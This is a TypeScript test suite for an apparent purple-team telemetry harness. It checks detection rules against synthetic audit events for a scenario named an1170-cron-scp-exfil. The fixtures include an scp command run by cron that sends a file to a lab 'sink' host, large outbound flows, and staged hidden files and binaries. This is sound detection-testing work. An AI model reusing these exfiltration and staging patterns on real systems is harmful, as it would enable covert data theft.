import { expect } from 'chai';
import path from 'node:path';
import type { AuditEvent, AuditFile, AuditProcess } from '../../harness/audit/event.js';
import type { FileArtifact, Flow } from '../../harness/telemetry/types.js';
import { buildProcessTree, createdPath, evaluateTelemetryChecks, type CollectedTelemetry } from '../../harness/scenario/checks.js';
import { DEFAULT_SCENARIOS_DIR, loadScenario } from '../../harness/scenario/loader.js';
import { resolveInputs } from '../../harness/scenario/inputs.js';
import type { Scenario, TelemetryCheckSpec } from '../../harness/scenario/types.js';

const VICTIM = '172.18.0.2';
const SINK = '172.18.0.3';
const TRUSTED = '172.18.0.4';
let serial = 0;

function ev(syscall: string | null, process: Partial<AuditProcess>, more: Partial<AuditEvent> = {}): AuditEvent {
  serial++;
  return {
    id: `1700000000.${String(serial).padStart(3, '0')}:${serial}`,
    node: null,
    time: new Date(1700000000000 + serial).toISOString(),
    serial,
    types: ['SYSCALL'],
    syscall,
    args: [],
    success: true,
    exit: 0,
    key: 'purple',
    process: { pid: null, ppid: null, uid: 0, euid: 0, auid: null, gid: 0, ses: null, tty: null, comm: null, exe: null, cwd: '/', argv: [], title: null, ...process },
    files: [],
    socket: null,
    ...more,
  };
}
const file = (name: string, nametype: string): AuditFile => ({ name, nametype, mode: null, inode: null, ouid: null });
const artifact = (p: string, a: Partial<FileArtifact>): FileArtifact => ({
  time: new Date().toISOString(), path: p, size: 1000, entropy: 4, format: null, header: '', mode: null, ownerUid: 1000, sha256: null, ...a,
});
const flow = (src: string, dst: string, bytesOut: number, bytesIn: number, sport = 40000, dport = 22, event = 'DESTROY'): Flow => ({
  time: new Date().toISOString(), protocol: 'tcp', src, sport, dst, dport, bytesOut, bytesIn, packetsOut: 1, packetsIn: 1, event,
});

/** cron (100) -> cron child (200) -> sh (300) -> scp (400), no TTY, as alice; scp connects to the sink. */
function cronScp(): AuditEvent[] {
  return [
    ev('clone', { pid: 100, ppid: 1, exe: '/usr/sbin/cron', comm: 'cron' }, { exit: 200 }),
    ev('clone', { pid: 200, ppid: 100, exe: '/usr/sbin/cron', comm: 'cron' }, { exit: 300 }),
    ev('execve', { pid: 300, ppid: 200, uid: 1000, exe: '/usr/bin/dash', comm: 'sh', argv: ['/bin/sh', '-c', 'scp-upload.sh'] }),
    ev('clone', { pid: 300, ppid: 200, uid: 1000, exe: '/usr/bin/dash', comm: 'sh' }, { exit: 400 }),
    ev('execve', { pid: 400, ppid: 300, uid: 1000, exe: '/usr/bin/scp', comm: 'scp', argv: ['scp', '-q', 'f', `drop@${SINK}:`] }),
    ev('connect', { pid: 401, ppid: 400, uid: 1000, exe: '/usr/bin/ssh', comm: 'ssh' }, { socket: { family: 'inet', addr: SINK, port: 22, path: null } }),
  ];
}

function telemetry(over: Partial<CollectedTelemetry> = {}): CollectedTelemetry {
  return { events: [], flows: [], artifacts: [], addresses: { victim: VICTIM, sink: SINK, trusted: TRUSTED }, ...over };
}
const checks = (specs: TelemetryCheckSpec[]): Pick<Scenario, 'telemetry'> => ({ telemetry: specs });

describe('telemetry checks', () => {
  describe('execve', () => {
    const spec: TelemetryCheckSpec = { kind: 'execve', exe: 'scp', user: 'alice', tty: 'none', ancestor: 'cron', line: 1 };

    it('finds scp run by cron with no TTY, through the clone chain', () => {
      const events = cronScp();
      const [c] = evaluateTelemetryChecks(checks([spec]), {}, telemetry({ events }));
      expect(c!.satisfied, c!.description).to.equal(true);
      expect(c!.eventIds).to.deep.equal([events[4]!.id]);
      expect(c!.description).to.equal('execve of scp by alice (uid 1000) with no TTY under cron');
    });

    it('fails when scp ran on a TTY, as another user, or not under cron, and says what it saw', () => {
      const onTty = cronScp().map((e) => (e.syscall === 'execve' && e.process.comm === 'scp' ? { ...e, process: { ...e.process, tty: 'pts0' } } : e));
      const [a] = evaluateTelemetryChecks(checks([spec]), {}, telemetry({ events: onTty }));
      expect(a!.satisfied).to.equal(false);
      expect(a!.description, a!.description).to.match(/saw 1 execve of scp but none matched \(first: uid 1000, tty pts0, ancestors cron\|dash\|sh < cron < cron\)/);

      const [b] = evaluateTelemetryChecks(checks([{ ...spec, user: 'www-data' }]), {}, telemetry({ events: cronScp() }));
      expect(b!.satisfied).to.equal(false);

      // Interactive: bash (50) -> scp (60), no cron anywhere.
      const interactive = [
        ev('execve', { pid: 50, ppid: 10, uid: 1000, exe: '/usr/bin/bash', comm: 'bash' }),
        ev('execve', { pid: 60, ppid: 50, uid: 1000, exe: '/usr/bin/scp', comm: 'scp', argv: ['scp'] }),
      ];
      const [c] = evaluateTelemetryChecks(checks([spec]), {}, telemetry({ events: interactive }));
      expect(c!.satisfied).to.equal(false);
      const [none] = evaluateTelemetryChecks(checks([spec]), {}, telemetry());
      expect(none!.description).to.match(/no execve of scp seen/);
    });

    it('does not count the process itself as its own ancestor', () => {
      // pid 70 was forked by cron and exec'd scp directly: its own earlier name is cron, its parent is bash.
      const events = [
        ev('clone', { pid: 70, ppid: 5, exe: '/usr/sbin/cron', comm: 'cron' }, { exit: 71 }),
        ev('execve', { pid: 5, ppid: 1, exe: '/usr/bin/bash', comm: 'bash' }),
        ev('execve', { pid: 70, ppid: 5, uid: 1000, exe: '/usr/bin/scp', comm: 'scp' }),
      ];
      const [c] = evaluateTelemetryChecks(checks([{ kind: 'execve', exe: 'scp', ancestor: 'cron', line: 1 }]), {}, telemetry({ events }));
      expect(c!.satisfied).to.equal(false);
    });

    it('matches argv[0] (symlinked clients such as ftp -> tnftp), full paths, templates and numeric uids', () => {
      const events = [
        ev('execve', { pid: 9, ppid: 1, uid: 33, exe: '/usr/bin/tnftp', comm: 'ftp', argv: ['ftp', '-n'], tty: 'pts1' }),
        ev('execve', { pid: 10, ppid: 1, uid: 33, exe: '/tmp/.cache/update-agent', argv: ['/tmp/.cache/update-agent'] }),
      ];
      const out = evaluateTelemetryChecks(
        checks([
          { kind: 'execve', exe: 'ftp', tty: 'any', line: 1 },
          { kind: 'execve', exe: '{{dir}}/update-agent', user: '{{runner}}', line: 2 },
          { kind: 'execve', exe: 'update-agent', user: '33', line: 3 },
          { kind: 'execve', exe: 'update-agent', user: '{{runner}}', line: 4 },
        ]),
        { dir: '/tmp/.cache', runner: 'www-data' },
        telemetry({ events }),
      );
      expect(out.map((c) => c.satisfied)).to.deep.equal([true, true, true, true]);
      const [x] = evaluateTelemetryChecks(checks([{ kind: 'execve', exe: 'update-agent', user: 'svc-app', line: 1 }]), {}, telemetry({ events, users: { 'svc-app': 33 } }));
      expect(x!.satisfied).to.equal(true);
    });

    it('an unknown user makes the check fail with a reason, not throw', () => {
      const [c] = evaluateTelemetryChecks(checks([{ kind: 'execve', exe: 'scp', user: 'mallory', line: 7 }]), {}, telemetry({ events: cronScp() }));
      expect(c!.satisfied).to.equal(false);
      expect(c!.description).to.match(/^execve check on line 7: unknown user mallory/);
    });
  });

  it('buildProcessTree: a forked child first carries its parent identity', () => {
    const tree = buildProcessTree(cronScp());
    expect(tree.get(300)!.ppid).to.equal(200);
    expect([...tree.get(300)!.names].sort()).to.deep.equal(['cron', 'dash', 'sh']);
    expect(tree.get(200)!.ppid).to.equal(100);
  });

  describe('connect', () => {
    it('matches the role address and port; EINPROGRESS counts, refused does not', () => {
      const events = [
        ev('connect', { pid: 1, uid: 1000 }, { socket: { family: 'inet', addr: SINK, port: 21, path: null }, success: false, exit: -115 }),
        ev('connect', { pid: 1, uid: 1000 }, { socket: { family: 'inet', addr: TRUSTED, port: 22, path: null }, success: false, exit: -111 }),
        ev('connect', { pid: 1, uid: 1000 }, { socket: { family: 'inet6', addr: `::ffff:${SINK}`, port: 22, path: null } }),
      ];
      const out = evaluateTelemetryChecks(
        checks([
          { kind: 'connect', to: 'sink', port: 21, line: 1 },
          { kind: 'connect', to: 'sink', port: 22, user: 'alice', line: 2 },
          { kind: 'connect', to: 'trusted', line: 3 },
          { kind: 'connect', to: 'sink', port: 443, line: 4 },
        ]),
        {},
        telemetry({ events }),
      );
      expect(out.map((c) => c.satisfied)).to.deep.equal([true, true, false, false]);
      expect(out[0]!.eventIds).to.deep.equal([events[0]!.id]);
      expect(out[3]!.description).to.match(/connect to sink \(172\.18\.0\.3:443\): saw connects to: 172\.18\.0\.3:21, 172\.18\.0\.4:22/);
    });
  });

  describe('flow', () => {
    it('sums the largest counter per connection, in either conntrack direction', () => {
      const flows = [
        flow(VICTIM, SINK, 10 << 20, 1000, 40000, 22, 'UPDATE'),
        flow(VICTIM, SINK, 18 << 20, 2000, 40000, 22, 'DESTROY'), // same connection, later counter
        flow(SINK, VICTIM, 1000, 3 << 20, 50000, 40001), // opened by the sink (TFTP data, active FTP): the victim's bytes are the replies
        flow(VICTIM, TRUSTED, 50 << 20, 0), // other peer: not counted
      ];
      const [ok] = evaluateTelemetryChecks(checks([{ kind: 'flow', to: 'sink', minBytes: '{{size_mb}}MB', line: 1 }]), { size_mb: 20 }, telemetry({ flows }));
      expect(ok!.satisfied, ok!.description).to.equal(true);
      expect(ok!.description).to.equal('victim sent at least 20.0 MB to sink (172.18.0.3): saw 21.0 MB');
      const [tooMuch] = evaluateTelemetryChecks(checks([{ kind: 'flow', to: 'sink', minBytes: '1KB', maxBytes: '1MB', line: 1 }]), {}, telemetry({ flows }));
      expect(tooMuch!.satisfied).to.equal(false);
      const [short] = evaluateTelemetryChecks(checks([{ kind: 'flow', to: 'sink', minBytes: '22MB', line: 1 }]), {}, telemetry({ flows }));
      expect(short!.satisfied).to.equal(false);
    });

    it('a role without an address fails with the reason', () => {
      const [c] = evaluateTelemetryChecks(checks([{ kind: 'flow', to: 'trusted', minBytes: '1', line: 3 }]), {}, telemetry({ addresses: { victim: VICTIM } }));
      expect(c).to.deep.equal({ description: 'flow check on line 3: no address for the trusted container', satisfied: false, eventIds: [] });
    });
  });

  describe('file', () => {
    const created = ev('openat', { pid: 5, uid: 1000, cwd: '/home/alice' }, { files: [file('/tmp', 'PARENT'), file('/tmp/.thumbnails.db', 'CREATE')], args: ['ffffff9c', '7ffd', '241', '1b6'] });
    const relative = ev('openat', { pid: 6, uid: 1000, cwd: '/tmp' }, { files: [file('report.txt', 'NORMAL')], args: ['ffffff9c', '7ffd', '241', '1b6'] });
    const readOnly = ev('openat', { pid: 7, uid: 1000, cwd: '/tmp' }, { files: [file('/tmp/other', 'NORMAL')], args: ['ffffff9c', '7ffd', '0', '0'] });

    it('createdPath: CREATE items, O_CREAT opens resolved against cwd, never plain reads', () => {
      expect(createdPath(created)).to.equal('/tmp/.thumbnails.db');
      expect(createdPath(relative)).to.equal('/tmp/report.txt');
      expect(createdPath(readOnly)).to.equal(null);
      expect(createdPath({ ...created, success: false })).to.equal(null);
    });

    it('high entropy with no known format, under the directory, by the user', () => {
      const events = [created, relative, readOnly];
      const artifacts = [artifact('/tmp/.thumbnails.db', { entropy: 7.97, format: null, size: 49244 }), artifact('/tmp/report.txt', { entropy: 4.3 })];
      const spec: TelemetryCheckSpec = { kind: 'file', createdIn: '{{out_dir}}', user: 'alice', constraints: { minEntropy: 7.5, format: 'none' }, line: 1 };
      const [c] = evaluateTelemetryChecks(checks([spec]), { out_dir: '/tmp' }, telemetry({ events, artifacts }));
      expect(c!.satisfied, c!.description).to.equal(true);
      expect(c!.eventIds).to.deep.equal([created.id]);
      expect(c!.description).to.equal('file created in /tmp by alice with entropy >= 7.5, format none (saw /tmp/.thumbnails.db: 7.97 bits/byte, no known format, 48 KB)');

      const [low] = evaluateTelemetryChecks(checks([{ ...spec, constraints: { maxEntropy: 6, format: 'none' } }]), { out_dir: '/tmp' }, telemetry({ events, artifacts }));
      expect(low!.eventIds).to.deep.equal([relative.id]);
    });

    it('fails on the wrong format, the wrong user, another directory, or content never read', () => {
      const events = [created];
      const gz = [artifact('/tmp/.thumbnails.db', { entropy: 7.9, format: 'gzip' })];
      const base: TelemetryCheckSpec = { kind: 'file', createdIn: '/tmp', constraints: { minEntropy: 7.5, format: 'none' }, line: 1 };
      const run = (spec: TelemetryCheckSpec, artifacts: FileArtifact[]) => evaluateTelemetryChecks(checks([spec]), {}, telemetry({ events, artifacts }))[0]!;
      const wrongFormat = run(base, gz);
      expect(wrongFormat.satisfied).to.equal(false);
      expect(wrongFormat.description).to.match(/created files did not fit \(\/tmp\/\.thumbnails\.db: 7\.90 bits\/byte, gzip/);
      expect(run({ ...base, constraints: { format: 'archive' } }, gz).satisfied).to.equal(true);
      expect(run({ ...base, user: 'root' }, gz).description).to.match(/no file creation under \/tmp seen/);
      expect(run({ ...base, createdIn: '/var/tmp' }, gz).satisfied).to.equal(false);
      expect(run({ ...base, createdIn: '/tm' }, gz).satisfied).to.equal(false); // a prefix of the name is not the folder
      expect(run(base, []).description).to.match(/created \/tmp\/\.thumbnails\.db but no content was read/);
      expect(run({ kind: 'file', createdIn: '/tmp/', constraints: {}, line: 1 }, []).satisfied).to.equal(true);
    });

    it('size bounds with templates', () => {
      const elf = ev('openat', { pid: 5, uid: 1000 }, { files: [file('/tmp/.cache/update-agent', 'CREATE')] });
      const artifacts = [artifact('/tmp/.cache/update-agent', { format: 'elf', size: 24 << 20 })];
      const spec = (minSize: string): TelemetryCheckSpec => ({ kind: 'file', createdIn: '/tmp/.cache', constraints: { format: 'elf', minSize }, line: 1 });
      const run = (s: TelemetryCheckSpec) => evaluateTelemetryChecks(checks([s]), { size_mb: 24 }, telemetry({ events: [elf], artifacts }))[0]!;
      expect(run(spec('{{size_mb}}MB')).satisfied).to.equal(true);
      expect(run(spec('25MB')).satisfied).to.equal(false);
    });
  });

  describe('open', () => {
    it('an open of the path by the user, resolved against cwd', () => {
      const events = [
        ev('openat', { pid: 8, uid: 999, cwd: '/var/tmp/.x' }, { files: [file('libxcache.so', 'NORMAL')] }),
        ev('openat', { pid: 9, uid: 1000, cwd: '/' }, { files: [file('/var/tmp/.x/other', 'NORMAL')] }),
      ];
      const out = evaluateTelemetryChecks(
        checks([
          { kind: 'open', path: '{{dir}}/libxcache.so', user: 'svc-app', line: 1 },
          { kind: 'open', path: '/var/tmp/.x/libxcache.so', user: 'nobody', line: 2 },
        ]),
        { dir: '/var/tmp/.x' },
        telemetry({ events }),
      );
      expect(out.map((c) => c.satisfied)).to.deep.equal([true, false]);
      expect(out[0]!.eventIds).to.deep.equal([events[0]!.id]);
    });
  });

  describe('with a shipped scenario', () => {
    const { scenario } = loadScenario(path.join(DEFAULT_SCENARIOS_DIR, 'an1170-cron-scp-exfil'));
    const inputs = resolveInputs(scenario!);

    it('every check of an1170-cron-scp-exfil passes on a faithful trace', () => {
      const out = evaluateTelemetryChecks(scenario!, inputs, telemetry({ events: cronScp(), flows: [flow(VICTIM, SINK, 21 << 20, 4096)] }));
      expect(out.every((c) => c.satisfied), JSON.stringify(out, null, 2)).to.equal(true);
      expect(out).to.have.length(3);
    });

    it('and fail when the transfer went to the trusted host instead', () => {
      const toTrusted = cronScp().map((e) => (e.socket ? { ...e, socket: { ...e.socket, addr: TRUSTED } } : e));
      const out = evaluateTelemetryChecks(scenario!, inputs, telemetry({ events: toTrusted, flows: [flow(VICTIM, TRUSTED, 21 << 20, 4096)] }));
      expect(out.map((c) => c.satisfied)).to.deep.equal([true, false, false]);
    });
  });
});
